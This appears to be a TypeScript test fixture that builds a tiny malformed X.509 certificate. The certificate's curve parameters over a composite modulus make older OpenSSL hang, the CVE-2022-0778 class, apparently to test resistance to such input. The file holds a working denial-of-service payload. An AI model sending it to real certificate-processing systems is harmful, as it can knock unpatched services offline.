import {
  derElement,
  derOid,
  derSequence,
  derSmallInteger,
} from "../../../packages/sandbox/src/certificates/der.ts";

const integer = (hex: string) => derElement(0x02, Buffer.from(hex, "hex"));
const octets = (hex: string) => derElement(0x04, Buffer.from(hex, "hex"));
const utcTime = (text: string) => derElement(0x17, Buffer.from(text));

/**
 * A certificate of less than 240 octets on which an OpenSSL from before 2022 computes for ever (the class of CVE-2022-0778):
 * its key has explicit curve parameters over the "prime" 697 = 17 * 41, and a compressed generator for which the algorithm
 * seeks a square root of 696 and never ends.
 */
export function hangingCertificate(): Buffer {
  const generator = "020001";
  const parameters = derSequence(
    derSmallInteger(1),
    derSequence(derOid("1.2.840.10045.1.1"), integer("02b9")),
    derSequence(octets("0000"), octets("02b7")),
    octets(generator),
    integer("03"),
    integer("01"),
  );
  const key = derSequence(
    derSequence(derOid("1.2.840.10045.2.1"), parameters),
    derElement(0x03, Buffer.from(`00${generator}`, "hex")),
  );
  return certificateAround(key);
}

function certificateAround(key: Uint8Array): Buffer {
  const algorithm = derSequence(derOid("1.2.840.10045.4.3.2"));
  const identifier = derElement(0x0c, Buffer.from("PSDCZ-CNB-1"));
  const name = derSequence(derElement(0x31, derSequence(derOid("2.5.4.97"), identifier)));
  const validity = derSequence(utcTime("260101000000Z"), utcTime("270101000000Z"));
  const purpose = derSequence(derOid("2.5.29.37"), octets("300a06082b06010505070302"));
  const signed = derSequence(
    derElement(0xa0, derSmallInteger(2)),
    derSmallInteger(1),
    algorithm,
    name,
    validity,
    name,
    key,
    derElement(0xa3, derSequence(purpose)),
  );
  return Buffer.from(
    derSequence(signed, algorithm, derElement(0x03, Buffer.from("003006020101020101", "hex"))),
  );
}
